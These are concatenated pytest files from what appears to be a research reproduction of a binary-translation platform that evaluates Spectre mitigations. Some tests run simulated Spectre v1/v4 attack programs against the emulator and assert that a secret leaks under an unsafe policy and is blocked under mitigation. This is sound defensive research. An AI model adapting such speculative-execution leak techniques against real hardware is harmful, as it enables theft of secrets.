    profile = ExecutionProfile()
    assert profile.predicted_direction(0x40, 4, 0.7) is None  # no data
    for _ in range(3):
        profile.record_branch(0x40, taken=False)
    assert profile.predicted_direction(0x40, 4, 0.7) is None  # too few
    profile.record_branch(0x40, taken=False)
    assert profile.predicted_direction(0x40, 4, 0.7) is False
    # Weak bias.
    for _ in range(4):
        profile.record_branch(0x40, taken=True)
    assert profile.predicted_direction(0x40, 4, 0.7) is None


def test_hottest_blocks():
    profile = ExecutionProfile()
    for _ in range(5):
        profile.record_block(0xA)
    profile.record_block(0xB)
    assert profile.hottest_blocks(1) == ((0xA, 5),)
    profile.reset()
    assert profile.hottest_blocks() == ()


# ---------------------------------------------------------------------------
# Translation cache.
# ---------------------------------------------------------------------------

def _dummy_block(entry: int, kind: str = "firstpass") -> TranslatedBlock:
    return TranslatedBlock(
        guest_entry=entry,
        bundles=(Bundle(ops=(VliwOp(VliwOpcode.JUMP, target=0),)),),
        kind=kind,
    )


def test_cache_miss_then_hit():
    cache = TranslationCache()
    assert cache.lookup(0x10) is None
    cache.install(_dummy_block(0x10))
    assert cache.lookup(0x10) is not None
    assert cache.stats.lookups == 2
    assert cache.stats.misses == 1
    assert cache.stats.hit_rate == pytest.approx(0.5)


def test_cache_replacement_counts():
    cache = TranslationCache()
    cache.install(_dummy_block(0x10))
    cache.install(_dummy_block(0x10, kind="optimized"))
    assert cache.stats.replacements == 1
    assert cache.get(0x10).kind == "optimized"
    assert len(cache) == 1
    assert 0x10 in cache


def test_cache_invalidate_and_clear():
    cache = TranslationCache()
    cache.install(_dummy_block(0x10))
    assert cache.invalidate(0x10)
    assert not cache.invalidate(0x10)
    cache.install(_dummy_block(0x20))
    cache.clear()
    assert len(cache) == 0


def test_cache_capacity_flushes_wholesale():
    cache = TranslationCache(capacity=2)
    cache.install(_dummy_block(0x10))
    cache.install(_dummy_block(0x20))
    cache.install(_dummy_block(0x30))  # forces a flush first
    assert cache.stats.capacity_flushes == 1
    assert len(cache) == 1
    assert cache.get(0x30) is not None
    assert cache.get(0x10) is None


def test_cache_capacity_replacement_does_not_flush():
    cache = TranslationCache(capacity=1)
    cache.install(_dummy_block(0x10))
    cache.install(_dummy_block(0x10, kind="optimized"))  # replacement
    assert cache.stats.capacity_flushes == 0


def test_cache_capacity_validation():
    with pytest.raises(ValueError):
        TranslationCache(capacity=0)


def test_platform_correct_under_tiny_code_cache():
    from repro.dbt.engine import DbtEngineConfig
    from repro.platform.system import DbtSystem
    from repro.interp.executor import run_program

    program = assemble("""
_start:
    li a0, 0
    li t0, 0
    li t1, 30
head:
    addi t0, t0, 1
    add a0, a0, t0
    blt t0, t1, head
    andi a0, a0, 0x7f
    li a7, 93
    ecall
""")
    expected = run_program(program).exit_code
    system = DbtSystem(program, engine_config=DbtEngineConfig(
        hot_threshold=4, code_cache_capacity=2,
    ))
    result = system.run()
    assert result.exit_code == expected
    assert system.engine.cache.stats.capacity_flushes > 0
