"""Property-based scheduler testing over randomly generated IR blocks.

Two invariants, checked on every random block and option combination:

1. **static legality** — the schedule passes the public verifier
   (:func:`repro.dbt.verify.check_schedule`);
2. **dynamic equivalence** — executing the speculative schedule on the
   VLIW core produces exactly the same architectural registers, memory
   and exit as the naive sequential translation, regardless of hidden
   registers, speculative loads or MCB rollbacks.
"""

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from repro.dbt.codegen import sequential_translate
from repro.dbt.ir import IRBlock, IRInstruction, IRKind
from repro.dbt.scheduler import SchedulerOptions, schedule_block
from repro.dbt.verify import check_schedule
from repro.mem.hierarchy import DataMemorySystem
from repro.vliw.config import VliwConfig
from repro.vliw.isa import Condition
from repro.vliw.pipeline import VliwCore

CONFIG = VliwConfig()

#: Architectural registers random blocks may use (r1..r12; r13/r14 are
#: reserved as memory base registers so addresses stay in a sane window).
_REG = st.integers(1, 12)
_BASE = st.sampled_from([13, 14])
_OFFSET = st.integers(0, 31).map(lambda i: i * 8)
_ALU_OPS = st.sampled_from(["add", "sub", "xor", "or", "and", "mul", "sltu"])


@st.composite
def _ir_instruction(draw):
    kind = draw(st.sampled_from(
        ["alu", "alui", "li", "load", "store", "exit"]
    ))
    if kind == "alu":
        return IRInstruction(IRKind.ALU, op=draw(_ALU_OPS), dst=draw(_REG),
                             src1=draw(_REG), src2=draw(_REG))
    if kind == "alui":
        return IRInstruction(IRKind.ALUI, op=draw(_ALU_OPS), dst=draw(_REG),
                             src1=draw(_REG), imm=draw(st.integers(-64, 64)))
    if kind == "li":
        return IRInstruction(IRKind.LI, dst=draw(_REG),
                             imm=draw(st.integers(0, 1 << 16)))
    if kind == "load":
        return IRInstruction(IRKind.LOAD, dst=draw(_REG), src1=draw(_BASE),
                             imm=draw(_OFFSET))
    if kind == "store":
        return IRInstruction(IRKind.STORE, src1=draw(_BASE),
                             src2=draw(_REG), imm=draw(_OFFSET))
    return IRInstruction(
        IRKind.BRANCH_EXIT, condition=draw(st.sampled_from(list(Condition))),
        src1=draw(_REG), src2=draw(_REG),
        target=draw(st.integers(1, 64)) * 4 + 0x9000,
    )


@st.composite
def ir_blocks(draw):
    body = draw(st.lists(_ir_instruction(), min_size=3, max_size=20))
    block = IRBlock(entry=0x1000)
    for index, inst in enumerate(body):
        inst.guest_index = index
        block.append(inst)
    block.append(IRInstruction(
        IRKind.JUMP_EXIT, target=0x8000, guest_index=len(body),
    ))
    block.guest_length = len(block.instructions)
    return block


_OPTIONS = st.sampled_from([
    SchedulerOptions(),
    SchedulerOptions(branch_speculation=False),
    SchedulerOptions(memory_speculation=False),
    SchedulerOptions(branch_speculation=False, memory_speculation=False),
    SchedulerOptions(max_speculative_loads=2),
])


def _fresh_core():
    core = VliwCore(CONFIG, DataMemorySystem(cache_config=CONFIG.cache))
    core.regs.write(13, 0x2000)
    core.regs.write(14, 0x3000)
    for index in range(1, 13):
        core.regs.write(index, index * 1103515245 & 0xFFFF)
    for slot in range(64):
        core.memory.poke(0x2000 + slot * 8, (slot * 2654435761) & 0xFF, 8)
        core.memory.poke(0x3000 + slot * 8, (slot * 40503) & 0xFF, 8)
    return core


@given(ir_blocks(), _OPTIONS)
@settings(max_examples=60, deadline=None,
          suppress_health_check=[HealthCheck.too_slow])
def test_random_blocks_schedule_legally_and_equivalently(block, options):
    scheduled = schedule_block(block, CONFIG, options)
    check_schedule(block, scheduled, CONFIG)

    sequential = sequential_translate(block, CONFIG)
    core_a = _fresh_core()
    result_a = core_a.execute_block(sequential)
    core_b = _fresh_core()
    result_b = core_b.execute_block(scheduled)

    assert result_a.next_pc == result_b.next_pc
    assert result_a.reason == result_b.reason
    assert core_a.regs.architectural() == core_b.regs.architectural()
    assert core_a.memory.memory.equal_contents(core_b.memory.memory)


@given(ir_blocks())
@settings(max_examples=30, deadline=None,
          suppress_health_check=[HealthCheck.too_slow])
def test_speculative_schedule_is_never_slower_started(block):
    """The schedule is at most as long (in bundles) as the sequential one."""
    options = SchedulerOptions()
    scheduled = schedule_block(block, CONFIG, options)
    sequential = sequential_translate(block, CONFIG)
    assert scheduled.num_bundles <= sequential.num_bundles
