"""Guest-instruction -> IR lowering tests."""

import pytest

from repro.isa.assembler import assemble
from repro.dbt.blocks import discover_block
from repro.dbt.ir import IRKind
from repro.dbt.irbuilder import UnsupportedGuestCode, build_ir
from repro.vliw.isa import Condition


def ir_for(source: str, entry_symbol: str = None, path_symbols=None, final_next=None):
    program = assemble(source)
    if path_symbols:
        path = [discover_block(program, program.symbol(s)) for s in path_symbols]
    else:
        entry = program.symbol(entry_symbol) if entry_symbol else program.entry
        path = [discover_block(program, entry)]
    return program, build_ir(path, final_next=final_next)


def kinds(block):
    return [inst.kind for inst in block.instructions]


def test_simple_block_lowering():
    _, block = ir_for("""
    addi t0, t0, 1
    add t1, t0, t0
    ld t2, 0(t1)
    sd t2, 8(t1)
    ecall
""")
    assert kinds(block) == [
        IRKind.ALUI, IRKind.ALU, IRKind.LOAD, IRKind.STORE, IRKind.SYSCALL_EXIT,
    ]
    assert block.guest_length == 5


def test_branch_terminated_block_gets_side_exit_and_jump():
    program, block = ir_for("""
target:
    nop
    beq t0, t1, target
""", entry_symbol="target")
    assert kinds(block)[-2:] == [IRKind.BRANCH_EXIT, IRKind.JUMP_EXIT]
    branch_exit = block.instructions[-2]
    assert branch_exit.condition is Condition.EQ
    assert branch_exit.target == program.symbol("target")


def test_predicted_taken_branch_negates_condition():
    program, block = ir_for("""
target:
    nop
    blt t0, t1, target
""", entry_symbol="target", final_next=None)
    program2, block2 = ir_for("""
target:
    nop
    blt t0, t1, target
""", entry_symbol="target", final_next=0x10000)  # = target address
    taken_exit = block2.instructions[-2]
    assert taken_exit.kind is IRKind.BRANCH_EXIT
    assert taken_exit.condition is Condition.GE  # negated
    assert taken_exit.target == program2.symbol("target") + 8  # fallthrough
    final_jump = block2.instructions[-1]
    assert final_jump.target == program2.symbol("target")


def test_lui_and_auipc_become_constants():
    program, block = ir_for("""
    lui t0, 0x12345
    auipc t1, 1
    ecall
""")
    li0, li1 = block.instructions[0], block.instructions[1]
    assert li0.kind is IRKind.LI and li0.imm == 0x12345 << 12
    assert li1.kind is IRKind.LI
    assert li1.imm == program.entry + 4 + (1 << 12)


def test_jal_with_link_materialises_return_address():
    program, block = ir_for("""
    jal ra, helper
helper:
    ecall
""")
    assert kinds(block) == [IRKind.LI, IRKind.JUMP_EXIT]
    assert block.instructions[0].dst == 1
    assert block.instructions[0].imm == program.entry + 4


def test_jalr_lowering():
    _, block = ir_for("""
    jalr ra, 0(t0)
""")
    assert kinds(block) == [IRKind.LI, IRKind.INDIRECT_EXIT]
    assert block.instructions[1].src1 == 5


def test_jalr_rd_equals_rs1_unsupported():
    with pytest.raises(UnsupportedGuestCode):
        ir_for("jalr ra, 0(ra)")


def test_ret_is_plain_indirect_exit():
    _, block = ir_for("ret")
    assert kinds(block) == [IRKind.INDIRECT_EXIT]


def test_csr_lowering():
    _, block = ir_for("""
    rdcycle t0
    rdinstret t1
    ecall
""")
    assert kinds(block)[:2] == [IRKind.RDCYCLE, IRKind.RDINSTRET]


def test_csr_write_unsupported():
    with pytest.raises(UnsupportedGuestCode):
        ir_for("csrrw t0, 0xc00, t1\necall")


def test_fence_and_cflush():
    _, block = ir_for("""
    fence
    cflush 8(t0)
    ecall
""")
    assert kinds(block)[:2] == [IRKind.FENCE, IRKind.CFLUSH]
    assert block.instructions[1].imm == 8


def test_multi_block_path_merges():
    program = assemble("""
head:
    beq t0, t1, out
    addi t2, t2, 1
out:
    ecall
""")
    head = discover_block(program, program.symbol("head"))
    then = discover_block(program, program.symbol("head") + 4)
    block = build_ir([head, then])
    assert kinds(block) == [IRKind.BRANCH_EXIT, IRKind.ALUI, IRKind.SYSCALL_EXIT]
    # The mid-trace branch exits to 'out' when taken.
    assert block.instructions[0].target == program.symbol("out")


def test_followed_jump_disappears():
    program = assemble("""
a:
    addi t0, t0, 1
    j b
b:
    ecall
""")
    block_a = discover_block(program, program.symbol("a"))
    block_b = discover_block(program, program.symbol("b"))
    merged = build_ir([block_a, block_b])
    assert kinds(merged) == [IRKind.ALUI, IRKind.SYSCALL_EXIT]


def test_guest_indices_monotonic():
    _, block = ir_for("""
    addi t0, t0, 1
    addi t1, t1, 2
    ecall
""")
    indices = [inst.guest_index for inst in block.instructions]
    assert indices == sorted(indices)


def test_empty_path_rejected():
    with pytest.raises(ValueError):
        build_ir([])
