"""Adaptive conflict re-translation tests (engine extension).

When an optimized block rolls back chronically, the engine can rebuild it
without memory speculation.  This is disabled by default (matching the
paper's evaluated platform) and exercised here explicitly.
"""

import pytest

from repro.attacks import AttackVariant, build_attack_program
from repro.dbt.engine import DbtEngineConfig
from repro.platform.system import DbtSystem
from repro.security.policy import MitigationPolicy

SECRET = b"GB"


def _run_v4(threshold):
    program = build_attack_program(AttackVariant.SPECTRE_V4, SECRET)
    system = DbtSystem(
        program,
        policy=MitigationPolicy.UNSAFE,
        engine_config=DbtEngineConfig(conflict_retranslate_threshold=threshold),
    )
    result = system.run()
    return program, system, result


def test_disabled_by_default_keeps_rolling_back():
    program, system, result = _run_v4(threshold=None)
    assert result.rollbacks > 5
    assert system.engine.stats.conflict_retranslations == 0
    # The attack leaks (sanity: this is the unsafe configuration).
    assert result.output[:len(SECRET)] == SECRET


def test_chronic_conflicts_trigger_retranslation():
    program, system, result = _run_v4(threshold=3)
    engine = system.engine
    assert engine.stats.conflict_retranslations >= 1
    victim = engine.cache.get(program.symbol("victim"))
    assert victim is not None
    assert victim.kind == "reoptimized"
    assert victim.speculative_loads == 0
    # Rollbacks stop once the block is rebuilt: far fewer than the
    # disabled case (which rolls back every round).
    _, _, baseline = _run_v4(threshold=None)
    assert result.rollbacks < baseline.rollbacks


def test_retranslation_incidentally_stops_the_v4_leak():
    # Once memory speculation is pinned in the victim, later attack
    # rounds read the committed (safe) value: only the first few bytes
    # can leak.  Architectural behaviour stays correct throughout.
    program, system, result = _run_v4(threshold=1)
    assert result.exit_code == 0
    recovered = result.output[:len(SECRET)]
    assert recovered != SECRET


def test_retranslation_mirrors_optimize_bookkeeping():
    """Regression: the retranslation path used to install its block
    without the bookkeeping ``optimize()`` performs — no poison report,
    no ``spectre_patterns_found``/``mitigations_applied`` annotation on
    the block, and ``speculative_loads_emitted`` silently drifting.
    Under an analyzing policy, a reoptimized install must carry exactly
    the same metadata an optimized install would."""
    program = build_attack_program(AttackVariant.SPECTRE_V1, SECRET)
    system = DbtSystem(program, policy=MitigationPolicy.GHOSTBUSTERS)
    system.run()
    engine = system.engine
    entry = program.symbol("victim")
    optimized = engine.cache.get(entry)
    assert optimized is not None and optimized.kind == "optimized"
    assert optimized.spectre_patterns_found > 0  # v1 pattern is branchy

    before_patterns = engine.stats.spectre_patterns_detected
    before_edges = engine.stats.mitigation_edges_added
    before_spec_loads = engine.stats.speculative_loads_emitted
    translated = engine.retranslate_without_memory_speculation(entry)

    assert engine.cache.get(entry) is translated
    assert translated.kind == "reoptimized"
    # The poison report was regenerated and published, and the block
    # annotated from it — the v1 pattern survives disabling *memory*
    # speculation, so GhostBusters re-mitigates it.
    report = engine.reports[entry]
    assert translated.spectre_patterns_found == report.pattern_count > 0
    assert translated.mitigations_applied > 0
    # Stats moved by exactly the amounts the install carries.
    assert engine.stats.spectre_patterns_detected == \
        before_patterns + report.pattern_count
    assert engine.stats.mitigation_edges_added == \
        before_edges + translated.mitigations_applied
    assert engine.stats.speculative_loads_emitted == \
        before_spec_loads + translated.speculative_loads
    assert engine.stats.conflict_retranslations == 1


def test_retranslated_block_still_correct():
    # Exit code and output length must match the reference semantics.
    _, _, with_feature = _run_v4(threshold=2)
    _, _, without = _run_v4(threshold=None)
    assert with_feature.exit_code == without.exit_code == 0
    assert len(with_feature.output) == len(without.output)
