"""Polybench suite validation: checksums vs numpy references, platform
equivalence, and the matmul-ptr Spectre-pattern property."""

import numpy as np
import pytest

from repro.kernels.polybench import (
    SMALL_SIZES,
    _values,
    gemm,
    jacobi_1d,
    matmul_flat,
    matmul_ptr,
    trisolv,
)
from repro.kernels.compiler import build_kernel_program
from repro.interp.executor import run_program
from repro.dbt.engine import DbtEngineConfig
from repro.platform.system import DbtSystem
from repro.security.policy import ALL_POLICIES, MitigationPolicy


def _exit_code(kernel) -> int:
    return run_program(build_kernel_program(kernel)).exit_code


# ---------------------------------------------------------------------------
# Reference checksums in numpy.
# ---------------------------------------------------------------------------

def test_gemm_checksum_matches_numpy():
    n = 6
    kernel = gemm(n)
    a = np.array(_values(n * n, 11), dtype=np.int64).reshape(n, n)
    b = np.array(_values(n * n, 23), dtype=np.int64).reshape(n, n)
    c = np.array(_values(n * n, 37), dtype=np.int64).reshape(n, n)
    expected = int((c * 2 + (a @ b) * 3).sum()) & 0x7F
    assert _exit_code(kernel) == expected


def test_matmul_variants_agree():
    # Pointer-table and flat matmul compute the same product.
    assert _exit_code(matmul_ptr(6)) == _exit_code(matmul_flat(6))


def test_trisolv_solves_the_system():
    n = 8
    kernel = trisolv(n)
    # Rebuild L and b exactly as the kernel factory does.
    diag = tuple(1 + v % 4 for v in _values(n, 139))
    lower = _values(n * n, 149)
    L = np.zeros((n, n), dtype=np.int64)
    for r in range(n):
        for c in range(n):
            if r == c:
                L[r, c] = diag[r]
            elif c < r:
                L[r, c] = lower[r * n + c]
    b = np.array(_values(n, 151, bound=100), dtype=np.int64)
    x = np.zeros(n, dtype=np.int64)
    for i in range(n):
        acc = b[i] - int(L[i, :i] @ x[:i])
        # RISC-V div truncates toward zero, matching int() on the ratio.
        x[i] = int(acc / int(L[i, i]))
    assert _exit_code(kernel) == int(x.sum()) & 0x7F


def test_jacobi_1d_reference():
    n, steps = 16, 2
    kernel = jacobi_1d(n, steps)
    a = np.array(_values(n, 113), dtype=np.int64)
    b = np.array(_values(n, 127), dtype=np.int64)
    for _ in range(steps):
        for i in range(1, n - 1):
            b[i] = (a[i - 1] + a[i] + a[i + 1]) >> 1
        for i in range(1, n - 1):
            a[i] = (b[i - 1] + b[i] + b[i + 1]) >> 1
    assert _exit_code(kernel) == int(a.sum()) & 0x7F


# ---------------------------------------------------------------------------
# Whole-suite platform equivalence (small sizes).
# ---------------------------------------------------------------------------

@pytest.mark.parametrize("name", sorted(SMALL_SIZES))
def test_small_suite_platform_equivalence(name):
    kernel = SMALL_SIZES[name]()
    program = build_kernel_program(kernel)
    expected = run_program(program).exit_code
    for policy in ALL_POLICIES:
        system = DbtSystem(
            program, policy=policy,
            engine_config=DbtEngineConfig(hot_threshold=6),
        )
        result = system.run()
        assert result.exit_code == expected, (name, policy)


# ---------------------------------------------------------------------------
# The Section V-B property: only the pointer-table variant has patterns.
# ---------------------------------------------------------------------------

def _patterns_under_ghostbusters(kernel) -> int:
    program = build_kernel_program(kernel)
    system = DbtSystem(
        program, policy=MitigationPolicy.GHOSTBUSTERS,
        engine_config=DbtEngineConfig(hot_threshold=6),
    )
    system.run()
    return system.engine.stats.spectre_patterns_detected


def test_flat_matmul_has_no_spectre_pattern():
    assert _patterns_under_ghostbusters(matmul_flat(6)) == 0


def test_pointer_matmul_triggers_spectre_pattern():
    assert _patterns_under_ghostbusters(matmul_ptr(6)) > 0


def test_polybench_suite_is_pattern_free():
    for name, factory in SMALL_SIZES.items():
        assert _patterns_under_ghostbusters(factory()) == 0, name


def test_seidel_2d_reference():
    import numpy as np
    n, steps = 7, 2
    kernel = __import__("repro.kernels.polybench", fromlist=["seidel_2d"]).seidel_2d(n, steps)
    a = np.array(_values(n * n, 179, bound=64), dtype=np.int64).reshape(n, n)
    for _ in range(steps):
        for i in range(1, n - 1):
            for j in range(1, n - 1):
                a[i, j] = (
                    a[i - 1, j - 1] + a[i - 1, j] + a[i - 1, j + 1]
                    + a[i, j - 1] + a[i, j] + a[i, j + 1]
                    + a[i + 1, j - 1] + a[i + 1, j] + a[i + 1, j + 1]
                ) >> 3
    expected = int(a.sum()) & 0x7F
    assert _exit_code(kernel) == expected


def test_floyd_warshall_reference():
    import numpy as np
    from repro.kernels.polybench import floyd_warshall

    n = 6
    kernel = floyd_warshall(n)
    weights = [
        0 if r == c else 10 + v
        for (r, c), v in zip(
            ((r, c) for r in range(n) for c in range(n)),
            _values(n * n, 181, bound=90),
        )
    ]
    W = np.array(weights, dtype=np.int64).reshape(n, n)
    for k in range(n):
        for i in range(n):
            for j in range(n):
                via = W[i, k] + W[k, j]
                if via < W[i, j]:
                    W[i, j] = via
    assert _exit_code(kernel) == int(W.sum()) & 0x7F
