"""Kernel DSL and compiler tests."""

import pytest

from repro.kernels.ast import (
    ArrayDecl,
    Bin,
    Const,
    For,
    Kernel,
    Let,
    Load,
    LoadAt,
    Store,
    StoreAt,
    Var,
    loop,
    wrap,
)
from repro.kernels.compiler import CompileError, build_kernel_program, compile_kernel
from repro.interp.executor import run_program


def run_kernel(kernel: Kernel) -> int:
    return run_program(build_kernel_program(kernel)).exit_code


def simple_kernel(body, result, arrays=()):
    return Kernel(name="t", arrays=tuple(arrays), body=tuple(body), result=result)


# ---------------------------------------------------------------------------
# AST sugar.
# ---------------------------------------------------------------------------

def test_operator_sugar_builds_bin_nodes():
    expr = Var("a") + 1
    assert isinstance(expr, Bin) and expr.op == "+"
    assert (Var("a") * 2).op == "*"
    assert (Var("a") - Var("b")).op == "-"
    assert (Var("a") << 3).op == "<<"
    assert (Var("a") / 2).op == "/"
    assert (Var("a") % 2).op == "%"
    assert (1 + Var("a")).op == "+"


def test_wrap_rejects_junk():
    with pytest.raises(TypeError):
        wrap("nope")


def test_bad_bin_op_rejected():
    with pytest.raises(ValueError):
        Bin("**", Const(1), Const(2))


def test_loop_validation():
    with pytest.raises(ValueError):
        For(var="i", start=0, end=10, body=(), step=0)
    with pytest.raises(ValueError):
        For(var="i", start=0, end=Const(10) + 1, body=())


def test_array_decl_validation():
    with pytest.raises(ValueError):
        ArrayDecl("a", 4, elem_size=3)
    with pytest.raises(ValueError):
        ArrayDecl("a", 2, init=(1, 2, 3))


# ---------------------------------------------------------------------------
# Compiled semantics.
# ---------------------------------------------------------------------------

def test_constant_result():
    assert run_kernel(simple_kernel([], Const(55))) == 55


def test_let_and_arithmetic():
    kernel = simple_kernel(
        [Let("x", Const(6)), Let("y", Var("x") * 7)],
        Var("y"),
    )
    assert run_kernel(kernel) == 42


def test_division_and_modulo():
    kernel = simple_kernel(
        [Let("q", Const(17) / 5), Let("r", Const(17) % 5)],
        Var("q") * 10 + Var("r"),
    )
    assert run_kernel(kernel) == 32


def test_loop_sums():
    kernel = simple_kernel(
        [
            Let("acc", Const(0)),
            loop("i", 1, 11, [Let("acc", Var("acc") + Var("i"))]),
        ],
        Var("acc"),
    )
    assert run_kernel(kernel) == 55


def test_zero_trip_loop():
    kernel = simple_kernel(
        [
            Let("acc", Const(9)),
            loop("i", 5, 5, [Let("acc", Const(1))]),
        ],
        Var("acc"),
    )
    assert run_kernel(kernel) == 9


def test_negative_step_loop():
    kernel = simple_kernel(
        [
            Let("acc", Const(0)),
            loop("i", 5, 0, [Let("acc", Var("acc") + Var("i"))], step=-1),
        ],
        Var("acc"),
    )
    assert run_kernel(kernel) == 15  # 5+4+3+2+1


def test_variable_loop_bound():
    kernel = simple_kernel(
        [
            Let("n", Const(4)),
            Let("acc", Const(0)),
            loop("i", 0, Var("n"), [Let("acc", Var("acc") + 2)]),
        ],
        Var("acc"),
    )
    assert run_kernel(kernel) == 8


def test_array_load_store():
    kernel = simple_kernel(
        [
            Store("a", Const(0), Const(7)),
            Store("a", Const(1), Load("a", Const(0)) + 1),
        ],
        Load("a", Const(1)),
        arrays=[ArrayDecl("a", 4)],
    )
    assert run_kernel(kernel) == 8


def test_initialised_array():
    kernel = simple_kernel(
        [],
        Load("a", Const(2)),
        arrays=[ArrayDecl("a", 4, init=(10, 20, 30, 40))],
    )
    assert run_kernel(kernel) == 30


def test_byte_array():
    kernel = simple_kernel(
        [Store("a", Const(1), Const(300), width=1)],
        Load("a", Const(1), width=1, signed=False),
        arrays=[ArrayDecl("a", 4, elem_size=1)],
    )
    assert run_kernel(kernel) == 300 & 0xFF


def test_pointer_table_double_indirection():
    rows = ArrayDecl("rows", 2, init=(("data", 0), ("data", 16)))
    data = ArrayDecl("data", 4, init=(5, 6, 7, 8))
    kernel = simple_kernel(
        [
            Let("p", Load("rows", Const(1))),
            Let("v", LoadAt(Var("p") + 8)),
            StoreAt(Var("p"), Var("v") * 2),
        ],
        LoadAt(Load("rows", Const(1))),
        arrays=[rows, data],
    )
    assert run_kernel(kernel) == 16  # data[3] * 2


def test_undefined_variable_rejected():
    with pytest.raises(CompileError, match="undefined"):
        compile_kernel(simple_kernel([], Var("ghost")))


def test_undeclared_array_rejected():
    with pytest.raises(CompileError, match="undeclared array"):
        compile_kernel(simple_kernel([], Load("missing", Const(0))))


def test_register_exhaustion_reported():
    body = [Let("v%d" % i, Const(i)) for i in range(25)]
    with pytest.raises(CompileError, match="out of scalar registers"):
        compile_kernel(simple_kernel(body, Const(0)))


def test_immediate_peephole_emits_no_li():
    kernel = simple_kernel(
        [Let("x", Const(5)), Let("y", Var("x") + 3), Let("z", Var("y") * 8)],
        Var("z"),
    )
    asm = compile_kernel(kernel)
    assert "addi" in asm
    assert "slli" in asm
    assert run_kernel(kernel) == 64


def test_checksum_masked_to_7_bits():
    assert run_kernel(simple_kernel([], Const(0x1FF))) == 0x7F
