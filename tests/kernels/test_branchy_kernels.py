"""Tests for If/Compare DSL support and the branchy extra kernels."""

import numpy as np
import pytest

from repro.kernels import ArrayDecl, Compare, Const, If, Kernel, Let, Load, Store, Var, loop, when
from repro.kernels.compiler import CompileError, build_kernel_program, compile_kernel
from repro.kernels.polybench import EXTRA_KERNELS, _values, count_above, relu
from repro.interp.executor import run_program
from repro.dbt.engine import DbtEngineConfig
from repro.platform.system import DbtSystem
from repro.security.policy import ALL_POLICIES


def _run(kernel):
    return run_program(build_kernel_program(kernel)).exit_code


def _if_kernel(op, left, right, then_value, else_value=None):
    orelse = [Let("r", Const(else_value))] if else_value is not None else ()
    return Kernel(
        name="t", arrays=(),
        body=(
            Let("r", Const(0)),
            when(op, left, right, [Let("r", Const(then_value))], orelse),
        ),
        result=Var("r"),
    )


@pytest.mark.parametrize("op,left,right,expected", [
    ("<", 1, 2, 10), ("<", 2, 1, 0),
    ("<=", 2, 2, 10), ("<=", 3, 2, 0),
    ("==", 5, 5, 10), ("==", 5, 6, 0),
    ("!=", 5, 6, 10), ("!=", 5, 5, 0),
    (">", 3, 2, 10), (">", 2, 3, 0),
    (">=", 2, 2, 10), (">=", 1, 2, 0),
    ("u<", 1, 2, 10),
    ("u>=", 2, 2, 10),
])
def test_comparisons(op, left, right, expected):
    kernel = _if_kernel(op, Const(left), Const(right), 10)
    assert _run(kernel) == expected


def test_signed_vs_unsigned_comparison():
    # -1 is huge unsigned: u< flips vs <.
    assert _run(_if_kernel("<", Const(-1), Const(1), 10)) == 10
    assert _run(_if_kernel("u<", Const(-1), Const(1), 10)) == 0


def test_else_branch():
    assert _run(_if_kernel("<", Const(2), Const(1), 10, else_value=7)) == 7


def test_nested_if():
    kernel = Kernel(
        name="nested", arrays=(),
        body=(
            Let("r", Const(0)),
            when(">", 5, 1, [
                when(">", 3, 2, [Let("r", Const(42))]),
            ]),
        ),
        result=Var("r"),
    )
    assert _run(kernel) == 42


def test_bad_comparison_rejected():
    with pytest.raises(ValueError):
        Compare("~", Const(1), Const(2))


def test_relu_matches_numpy():
    kernel = relu(32)
    raw = _values(32, 167, bound=16)
    x = np.array([-v if v == 16 else v for v in raw], dtype=np.int64)
    expected = int(np.maximum(x, 0).sum()) & 0x7F
    assert _run(kernel) == expected


def test_count_above_reference():
    kernel = count_above(32, threshold=3)
    x = _values(32, 173, bound=9)
    count = sum(1 for v in x if v > 3)
    total = sum(v for v in x if v > 3)
    assert _run(kernel) == (count + total) & 0x7F


@pytest.mark.parametrize("name", sorted(EXTRA_KERNELS))
def test_branchy_kernels_platform_equivalence(name):
    program = build_kernel_program(EXTRA_KERNELS[name]())
    expected = run_program(program).exit_code
    for policy in ALL_POLICIES:
        system = DbtSystem(
            program, policy=policy,
            engine_config=DbtEngineConfig(hot_threshold=6),
        )
        assert system.run().exit_code == expected, (name, policy)


def test_biased_branch_builds_cross_branch_superblock():
    # relu's sign check is ~94% biased: the optimized trace must span it
    # (guest_length beyond one basic block) and hoist loads above it.
    program = build_kernel_program(relu())
    system = DbtSystem(program, engine_config=DbtEngineConfig(hot_threshold=8))
    system.run()
    optimized = [b for b in system.engine.cache.blocks() if b.kind == "optimized"]
    assert optimized
    assert any(b.branch_hoisted_ops > 0 for b in optimized)
