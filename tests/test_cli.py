"""CLI tests (argument handling and each subcommand end-to-end)."""

import json

import pytest

from repro.cli import build_parser, main

PROGRAM = """
_start:
    li a0, 7
    li a7, 93
    ecall
"""

LOOP_PROGRAM = """
_start:
    li t0, 0
    li t1, 40
head:
    addi t0, t0, 1
    blt t0, t1, head
    li a0, 0
    li a7, 93
    ecall
"""


@pytest.fixture
def asm_file(tmp_path):
    path = tmp_path / "prog.s"
    path.write_text(PROGRAM)
    return str(path)


@pytest.fixture
def loop_file(tmp_path):
    path = tmp_path / "loop.s"
    path.write_text(LOOP_PROGRAM)
    return str(path)


def test_run_platform(asm_file, capsys):
    assert main(["run", asm_file]) == 0
    out = capsys.readouterr().out
    assert "exit code : 7" in out
    assert "cycles" in out


def test_run_interpreter(asm_file, capsys):
    assert main(["run", asm_file, "--interp"]) == 0
    out = capsys.readouterr().out
    assert "exit code : 7" in out
    assert "instret" in out


def test_run_with_stats_and_policy(asm_file, capsys):
    assert main(["run", asm_file, "--stats", "--policy", "ghostbusters"]) == 0
    out = capsys.readouterr().out
    assert "DBT" in out


def test_run_wide_machine(loop_file, capsys):
    assert main(["run", loop_file, "--wide", "8"]) == 0
    assert "exit code : 0" in capsys.readouterr().out


def test_bad_policy_rejected(asm_file):
    with pytest.raises(SystemExit):
        main(["run", asm_file, "--policy", "yolo"])


def test_dis(asm_file, capsys):
    assert main(["dis", asm_file]) == 0
    out = capsys.readouterr().out
    assert "_start:" in out
    assert "ecall" in out


def test_trace_shows_optimized_blocks(loop_file, capsys):
    assert main(["trace", loop_file]) == 0
    out = capsys.readouterr().out
    assert "optimized" in out
    assert "jump" in out


def test_trace_all_includes_firstpass(asm_file, capsys):
    assert main(["trace", asm_file, "--all"]) == 0
    assert "firstpass" in capsys.readouterr().out


def test_attack_subcommand_single_policy(capsys):
    # Short secret; GhostBusters blocks -> returns 0 (explicit policy).
    assert main(["attack", "v1", "--secret", "Z",
                 "--policy", "ghostbusters"]) == 0
    out = capsys.readouterr().out
    assert "blocked" in out


def test_attack_jobs_output_matches_serial(capsys):
    # All four policies, so --jobs 2 really goes through the pool.
